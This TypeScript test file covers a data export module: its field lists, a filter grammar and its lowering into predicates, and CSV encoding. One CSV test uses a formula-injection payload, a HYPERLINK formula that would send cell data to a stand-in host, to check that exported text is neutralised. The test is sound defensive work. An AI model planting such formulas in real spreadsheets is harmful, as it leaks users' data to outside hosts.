import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { csvCell, csvRecord, moneyCell, moneyValue, parseCsv, restoreFormulaCell } from '../../src/domain/exports/csv.ts';
import {
  EXPORT_FILTER_CATALOGS,
  ExportFilterError,
  lowerExportFilter,
  operatorsOf,
  parseExportFilter,
  type Predicate,
} from '../../src/domain/exports/filters.ts';
import { EXPORT_OBJECTS, EXPORTED_OBJECTS, isAllowedField, resolveFields, type ExportedObject } from '../../src/domain/exports/objects.ts';
import { FILTER_OPERATORS } from '../../src/domain/filters/filter.ts';

// The export filter grammar (seed 4.14, platform reference 7.4), the per-object field lists (7.3) and the
// CSV encoding, without a database.

const NOW = new Date('2026-03-10T12:00:00.000Z');

function parseError(object: ExportedObject, filters: unknown): string {
  try {
    parseExportFilter(object, filters);
  } catch (error) {
    assert.ok(error instanceof ExportFilterError, String(error));
    return error.details;
  }
  assert.fail('the filter was accepted');
}

function lower(object: ExportedObject, field: string, conditions: Record<string, unknown>): Predicate {
  const tree = lowerExportFilter(parseExportFilter(object, { [field]: { conditions } }), NOW);
  // One field: the tree is `all` of that field's predicate.
  assert.equal(tree.kind, 'all');
  return (tree as { items: Predicate[] }).items[0] as Predicate;
}

const created = { kind: 'field', name: 'created_at', type: 'datetime' } as const;
const cmp = (target: object, op: string, value: unknown) => ({ kind: 'compare', target, cmp: op, value });
const all = (...items: unknown[]) => ({ kind: 'all', items });
const any = (...items: unknown[]) => ({ kind: 'any', items });
const not = (item: unknown) => ({ kind: 'not', item });

describe('export fields', () => {
  test('every default field of every object is one of its allowed fields, and every default order is offered', () => {
    for (const object of EXPORTED_OBJECTS) {
      const spec = EXPORT_OBJECTS[object];
      for (const field of spec.defaultFields) assert.ok(spec.allowedFields.includes(field), `${object}.${field}`);
      assert.ok(spec.orders.includes(spec.defaultOrder), object);
    }
  });

  test('no fields (or an empty list) means the defaults; named fields keep their order', () => {
    assert.deepEqual(resolveFields('voucher', undefined), { fields: ['code', 'voucher_type', 'value', 'discount_type'] });
    assert.deepEqual(resolveFields('order', []), { fields: ['id', 'source_id', 'status'] });
    assert.deepEqual(resolveFields('customer', ['email', 'id']), { fields: ['email', 'id'] });
  });

  test('an unsupported field is invalid_export_fields material, listing the allowed fields', () => {
    assert.deepEqual(resolveFields('points_expiration', ['id', 'code']), {
      problem: { kind: 'unsupported', details: 'Unsupported field used. Allowed fields: id, campaign_id, voucher_id, points, status, expires_at' },
    });
    const order = resolveFields('order', ['nope']);
    assert.ok('problem' in order);
    assert.match(order.problem.details, /^Unsupported field used\. Allowed fields: id, source_id, .*, metadata, metadata\.<key>$/);
  });

  test('metadata.<key> is a column wherever metadata is one', () => {
    assert.equal(isAllowedField('order', 'metadata.tier'), true);
    assert.equal(isAllowedField('order', 'metadata.'), false);
    assert.equal(isAllowedField('points_expiration', 'metadata.tier'), false);
  });

  test('a repeated field is a malformed list, not an unsupported field', () => {
    assert.deepEqual(resolveFields('order', ['id', 'status', 'id']), {
      problem: { kind: 'invalid', details: "Property .parameters.fields[2] repeats the field 'id'" },
    });
  });
});

describe('export filter grammar', () => {
  test('no filter matches everything; the junction defaults to and and accepts the SDK upper case', () => {
    assert.deepEqual(parseExportFilter('voucher', undefined), { junction: 'and', fields: [] });
    assert.deepEqual(lowerExportFilter(parseExportFilter('voucher', null), NOW), { kind: 'all', items: [] });
    assert.equal(parseExportFilter('redemption', { junction: 'OR' }).junction, 'or');
    assert.equal(parseError('redemption', { junction: 'xor' }), 'Property .parameters.filters.junction should be equal to one of the allowed values [ and, or ]');
  });

  test('an unknown field names the property and the filterable fields', () => {
    const details = parseError('points_expiration', { status: { conditions: { $is: ['ACTIVE'] } } });
    assert.equal(details, 'Property .parameters.filters.status is not a filterable field of points_expiration exports. Filterable fields: campaign_id, voucher_id');
    assert.match(parseError('voucher', { 'metadata.': { conditions: { $has_value: [] } } }), /is not a filterable field of voucher exports/);
    assert.match(parseError('customer', { 'summary.nope': { conditions: { $is: [1] } } }), /summary\.nope is not a filterable field/);
  });

  test('an unknown operator names the property', () => {
    assert.match(parseError('voucher', { code: { conditions: { $like: ['A%'] } } }), /^Property \.parameters\.filters\.code\.conditions\.\$like is not a filter operator/);
  });

  test("the vendor's per-field operator restrictions hold", () => {
    assert.equal(
      parseError('redemption', { created_at: { conditions: { $is: ['2026-01-01'] } } }),
      'Property .parameters.filters.created_at.conditions.$is cannot be used on field created_at; its operators: $after, $before',
    );
    assert.match(parseError('customer', { city: { conditions: { $contains: ['Ber'] } } }), /cannot be used on field city; its operators: \$is$/);
    assert.match(parseError('points_expiration', { voucher_id: { conditions: { $starts_with: ['v_'] } } }), /its operators: \$in, \$not_in, \$is, \$is_not$/);
    assert.match(parseError('redemption', { related_object: { conditions: { $is: ['voucher'] } } }), /its operators: \$in$/);
    assert.match(parseError('voucher_transactions', { created_at: { conditions: { $is_days_ago: [1] } } }), /cannot be used on field created_at/);
    // Operators that make no sense for the type are refused too.
    assert.match(parseError('voucher', { code: { conditions: { $after: ['2026-01-01'] } } }), /cannot be used on field code/);
    assert.match(parseError('voucher', { active: { conditions: { $count: [1] } } }), /cannot be used on field active/);
  });

  test('operands are checked and typed per operator and field type', () => {
    assert.match(parseError('voucher', { created_at: { conditions: { $after: ['yesterday'] } } }), /\$after should be an array of exactly one value, an ISO 8601 date or date-time$/);
    assert.match(parseError('voucher', { created_at: { conditions: { $after: ['2026-02-30'] } } }), /ISO 8601/);
    assert.match(parseError('voucher', { code: { conditions: { $is: ['A', 'B'] } } }), /\$is should be an array of exactly one value, a string of at most 1000 characters$/);
    assert.match(parseError('voucher', { code: { conditions: { $in: [] } } }), /\$in should be a non-empty array$/);
    assert.match(parseError('voucher', { code: { conditions: { $in: ['A', { x: 1 }] } } }), /\$in\[1\] should be a string of at most 1000 characters$/);
    assert.match(parseError('redemption', { result: { conditions: { $is: ['OK'] } } }), /\$is should be an array of exactly one value, equal to one of the allowed values \[ SUCCESS, FAILURE \]$/);
    assert.match(parseError('voucher', { 'redemption.quantity': { conditions: { $more_than: ['many'] } } }), /should be an array of exactly one value, a number$/);
    assert.match(parseError('voucher', { created_at: { conditions: { $more_than_ago: [-1] } } }), /whole number of days/);
    assert.match(parseError('voucher', { created_at: { conditions: { $is_days_ago: [1.5] } } }), /whole number of days/);
    assert.match(parseError('voucher', { active: { conditions: { $is: ['yes'] } } }), /should be an array of exactly one value, a boolean$/);
    assert.match(parseError('voucher', { code: {} }), /code should have required property 'conditions'$/);
    assert.match(parseError('voucher', { code: { conditions: {} } }), /code\.conditions should have at least one operator$/);
    assert.match(parseError('voucher', 'code'), /^Property \.parameters\.filters should be object$/);
    assert.match(parseError('customer', { 'loyalty_tier.camp_1': { conditions: { $is: ['ltr_1'] } } }), /loyalty tiers are not recorded/);
  });

  test('the seed sends strings: numbers, booleans and days are read from text; a bare value is one value', () => {
    const parsed = parseExportFilter('voucher', {
      'redemption.quantity': { conditions: { $more_than: ['5'] } },
      active: { conditions: { $is: 'true' } },
      created_at: { conditions: { $less_than_ago: ['7'] } },
      'metadata.tier': { conditions: { $in: ['gold', 3, false] } },
    });
    assert.deepEqual(
      parsed.fields.map((f) => f.conditions[0]?.values),
      [[5], [true], [7], ['gold', 3, false]],
    );
  });

  test('every listed operator is accepted by some field of some object', () => {
    const used = new Set<string>();
    for (const object of EXPORTED_OBJECTS) {
      for (const spec of Object.values(EXPORT_FILTER_CATALOGS[object].fields)) {
        for (const op of operatorsOf(spec)) if (!spec.only || spec.only.includes(op)) used.add(op);
      }
    }
    assert.deepEqual([...FILTER_OPERATORS].filter((op) => !used.has(op)), []);
  });
});

describe('export filter semantics (now = 2026-03-10T12:00:00.000Z)', () => {
  const day = (d: string) => all(cmp(created, '>=', `${d}T00:00:00.000Z`), cmp(created, '<', nextDay(d)));
  function nextDay(d: string): string {
    return new Date(Date.parse(`${d}T00:00:00.000Z`) + 86_400_000).toISOString();
  }
  const code = { kind: 'field', name: 'code', type: 'string' } as const;
  const quantity = { kind: 'field', name: 'redemption.quantity', type: 'number' } as const;
  const birthday = { kind: 'field', name: 'birthday', type: 'date' } as const;
  const tier = { kind: 'member', prefix: 'metadata', member: 'tier' } as const;
  const days = { kind: 'field', name: 'validity_day_of_week', element: 'integer' } as const;
  const dayElement = { kind: 'element', type: 'integer' } as const;

  const cases: Array<[string, ExportedObject, string, Record<string, unknown>, unknown]> = [
    ['$is on a string: equal', 'voucher', 'code', { $is: ['A'] }, cmp(code, '=', 'A')],
    ['$is_not on a string: not equal (a missing value passes)', 'voucher', 'code', { $is_not: ['A'] }, not(cmp(code, '=', 'A'))],
    ['$in: equal to one', 'voucher', 'code', { $in: ['A', 'B'] }, any(cmp(code, '=', 'A'), cmp(code, '=', 'B'))],
    ['$not_in: equal to none', 'voucher', 'code', { $not_in: ['A', 'B'] }, not(any(cmp(code, '=', 'A'), cmp(code, '=', 'B')))],
    ['$has_value', 'voucher', 'code', { $has_value: [] }, { kind: 'present', target: code }],
    ['$is_unknown', 'voucher', 'code', { $is_unknown: '' }, not({ kind: 'present', target: code })],
    ['$contains: one of the texts', 'voucher', 'code', { $contains: ['X'] }, { kind: 'text', target: code, match: 'contains', value: 'X' }],
    ['$not_contain', 'voucher', 'code', { $not_contain: ['X'] }, not({ kind: 'text', target: code, match: 'contains', value: 'X' })],
    ['$starts_with', 'voucher', 'code', { $starts_with: ['SUM'] }, { kind: 'text', target: code, match: 'starts_with', value: 'SUM' }],
    ['$ends_with', 'voucher', 'code', { $ends_with: ['-1'] }, { kind: 'text', target: code, match: 'ends_with', value: '-1' }],
    ['$more_than on a number', 'voucher', 'redemption.quantity', { $more_than: [5] }, cmp(quantity, '>', 5)],
    ['$less_than on a number', 'voucher', 'redemption.quantity', { $less_than: [5] }, cmp(quantity, '<', 5)],
    ['$more_than_equal on a number', 'voucher', 'redemption.quantity', { $more_than_equal: [5] }, cmp(quantity, '>=', 5)],
    ['$less_than_equal on a number', 'voucher', 'redemption.quantity', { $less_than_equal: [5] }, cmp(quantity, '<=', 5)],
    ['$after: later than the instant (a date is its midnight UTC)', 'voucher', 'created_at', { $after: ['2026-03-01'] }, cmp(created, '>', '2026-03-01T00:00:00.000Z')],
    ['$before: a zoned date-time is turned to UTC', 'voucher', 'created_at', { $before: ['2026-03-01T10:00:00+02:00'] }, cmp(created, '<', '2026-03-01T08:00:00.000Z')],
    ['$is on an instant: its UTC day', 'voucher', 'created_at', { $is: ['2026-03-01T22:30:00Z'] }, day('2026-03-01')],
    ['$more_than_ago: earlier than now - n days', 'voucher', 'created_at', { $more_than_ago: [3] }, cmp(created, '<', '2026-03-07T12:00:00.000Z')],
    ['$more_than on an instant is $more_than_ago', 'voucher', 'created_at', { $more_than: ['3'] }, cmp(created, '<', '2026-03-07T12:00:00.000Z')],
    ['$more_than_equal on an instant: at or before now - n days', 'voucher', 'created_at', { $more_than_equal: [3] }, cmp(created, '<=', '2026-03-07T12:00:00.000Z')],
    ['$less_than_ago: within the last n days, not in the future', 'voucher', 'created_at', { $less_than_ago: [3] }, all(cmp(created, '>', '2026-03-07T12:00:00.000Z'), cmp(created, '<=', '2026-03-10T12:00:00.000Z'))],
    ['$less_than on an instant is $less_than_ago', 'voucher', 'created_at', { $less_than: [3] }, all(cmp(created, '>', '2026-03-07T12:00:00.000Z'), cmp(created, '<=', '2026-03-10T12:00:00.000Z'))],
    ['$less_than_equal on an instant', 'voucher', 'created_at', { $less_than_equal: [3] }, all(cmp(created, '>=', '2026-03-07T12:00:00.000Z'), cmp(created, '<=', '2026-03-10T12:00:00.000Z'))],
    ['$more_than_future: after now + n days', 'voucher', 'created_at', { $more_than_future: [2] }, cmp(created, '>', '2026-03-12T12:00:00.000Z')],
    ['$less_than_future: from now until now + n days', 'voucher', 'created_at', { $less_than_future: [2] }, all(cmp(created, '>=', '2026-03-10T12:00:00.000Z'), cmp(created, '<', '2026-03-12T12:00:00.000Z'))],
    ['$is_days_ago: the UTC day n days before today', 'voucher', 'created_at', { $is_days_ago: [2] }, day('2026-03-08')],
    ['$is_days_in_future: the UTC day n days after today', 'voucher', 'created_at', { $is_days_in_future: [1] }, day('2026-03-11')],
    ['dates count whole days from today', 'customer', 'birthday', { $more_than_ago: [1] }, cmp(birthday, '<', '2026-03-09')],
    ['$is on a date', 'customer', 'birthday', { $is: ['2026-03-01T23:00:00Z'] }, cmp(birthday, '=', '2026-03-01')],
    ['$is_days_in_future on a date', 'customer', 'birthday', { $is_days_in_future: [0] }, cmp(birthday, '=', '2026-03-10')],
    ['$less_than_future on a date', 'customer', 'birthday', { $less_than_future: [5] }, all(cmp(birthday, '>=', '2026-03-10'), cmp(birthday, '<', '2026-03-15'))],
    ['$is on a JSON member keeps the operand type', 'voucher', 'metadata.tier', { $is: [3] }, cmp(tier, '=', 3)],
    ['$count on a JSON member: its array length', 'voucher', 'metadata.tier', { $count: [2] }, { kind: 'count', set: { kind: 'member', prefix: 'metadata', member: 'tier' }, cmp: '=', value: 2 }],
    ['$count on a set', 'voucher', 'validity_day_of_week', { $count: [2] }, { kind: 'count', set: days, cmp: '=', value: 2 }],
    ['$count_less on a set', 'voucher', 'validity_day_of_week', { $count_less: [2] }, { kind: 'count', set: days, cmp: '<', value: 2 }],
    ['$count_more on a set', 'voucher', 'validity_day_of_week', { $count_more: [2] }, { kind: 'count', set: days, cmp: '>', value: 2 }],
    ['$in on a set: some value is one of them', 'voucher', 'validity_day_of_week', { $in: [1, '6'] }, { kind: 'some', set: days, where: any(cmp(dayElement, '=', 1), cmp(dayElement, '=', 6)) }],
    ['$is_not on a set: no value equals it', 'voucher', 'validity_day_of_week', { $is_not: [0] }, not({ kind: 'some', set: days, where: cmp(dayElement, '=', 0) })],
    ['$has_value on a set: not empty', 'voucher', 'validity_day_of_week', { $has_value: [] }, { kind: 'some', set: days, where: null }],
    ['$is_unknown on a set: empty', 'voucher', 'validity_day_of_week', { $is_unknown: [] }, not({ kind: 'some', set: days, where: null })],
  ];
  for (const [name, object, field, conditions, expected] of cases) {
    test(name, () => assert.deepEqual(lower(object, field, conditions), expected));
  }

  test('the positive conditions of a set field hold for one and the same value', () => {
    const publications = { kind: 'field', name: 'publications.created_at', element: 'datetime' } as const;
    const element = { kind: 'element', type: 'datetime' } as const;
    assert.deepEqual(lower('customer', 'publications.created_at', { $after: ['2026-01-01'], $before: ['2026-02-01'] }), {
      kind: 'some',
      set: publications,
      where: all(cmp(element, '>', '2026-01-01T00:00:00.000Z'), cmp(element, '<', '2026-02-01T00:00:00.000Z')),
    });
  });

  test('conditions of one field all hold; the junction combines fields', () => {
    const filter = {
      junction: 'or',
      code: { conditions: { $starts_with: ['A'], $ends_with: ['Z'] } },
      active: { conditions: { $is: [true] } },
    };
    const active = { kind: 'field', name: 'active', type: 'boolean' } as const;
    assert.deepEqual(lowerExportFilter(parseExportFilter('voucher', filter), NOW), {
      kind: 'any',
      items: [
        all({ kind: 'text', target: code, match: 'starts_with', value: 'A' }, { kind: 'text', target: code, match: 'ends_with', value: 'Z' }),
        cmp(active, '=', true),
      ],
    });
  });
});

describe('CSV encoding', () => {
  test('cells are quoted only when they must be, with quotes doubled', () => {
    assert.equal(csvCell('plain'), 'plain');
    assert.equal(csvCell('a,b'), '"a,b"');
    assert.equal(csvCell('say "hi"'), '"say ""hi"""');
    assert.equal(csvCell('two\nlines'), '"two\nlines"');
    assert.equal(csvCell(null), '');
    assert.equal(csvCell(undefined), '');
    assert.equal(csvCell(true), 'true');
    assert.equal(csvCell(12.5), '12.5');
    assert.equal(csvCell([1, 2, 3]), '"1,2,3"');
    assert.equal(csvCell({ a: 1 }), '{""a"":1}'.replace(/^/, '"').replace(/$/, '"'));
  });

  test('text a spreadsheet would run as a formula gets a leading quote and is quoted; numbers we produced do not', () => {
    assert.equal(csvCell('=HYPERLINK("http://x.example/?"&A2,"Click me")'), '"\'=HYPERLINK(""http://x.example/?""&A2,""Click me"")"');
    for (const start of ['=', '+', '-', '@', '\t', '\r']) assert.equal(csvCell(`${start}1+1`), `"'${start}1+1"`, JSON.stringify(start));
    // User text that looks like a number is still text.
    assert.equal(csvCell('-5'), `"'-5"`);
    assert.equal(csvCell('+48 600 100 200'), `"'+48 600 100 200"`);
    assert.equal(csvCell(['-1', 'a']), `"'-1,a"`);
    // Quotes already in front of a formula character get one more, so an import can take exactly one off.
    assert.equal(csvCell("'=x"), `"''=x"`);
    assert.equal(csvCell("'plain"), "'plain");
    assert.equal(csvCell('a=b'), 'a=b');
    // Numbers this program produced stay numbers, money text included.
    assert.equal(csvCell(-5), '-5');
    assert.equal(csvCell(-1e21), '-1e+21');
    assert.equal(csvCell(moneyCell(-1050)), '-10.50');
    assert.equal(csvCell(moneyCell(200000)), '2000.00');
  });

  test('an import takes back exactly the quote an export added', () => {
    for (const text of ['=1+1', '+48 600', '-5', '@SUM(A1)', '\tx', '\rx', "'=x", "''-y", "'plain", 'plain', "'", '']) {
      const [[read]] = parseCsv(csvRecord([text])) as [[string]];
      assert.equal(restoreFormulaCell(read), text, JSON.stringify(text));
    }
  });

  test('records end with CRLF and read back as written', () => {
    const rows = [
      ['id', 'name', 'metadata'],
      ['c_1', 'Ann, "the" first', '{"x":[1,2]}'],
      ['c_2', '', 'line\r\nbreak'],
    ];
    const text = rows.map(csvRecord).join('');
    assert.equal(text.split('\r\n')[0], 'id,name,metadata');
    assert.deepEqual(parseCsv(text), rows);
  });

  test('money in major units has exactly two decimals, computed on integers', () => {
    assert.equal(moneyValue(200000), '2000.00');
    assert.equal(moneyValue(12345), '123.45');
    assert.equal(moneyValue(5), '0.05');
    assert.equal(moneyValue(0), '0.00');
    assert.equal(moneyValue(-1050), '-10.50');
    assert.equal(moneyValue(9007199254740991), '90071992547409.91');
  });
});
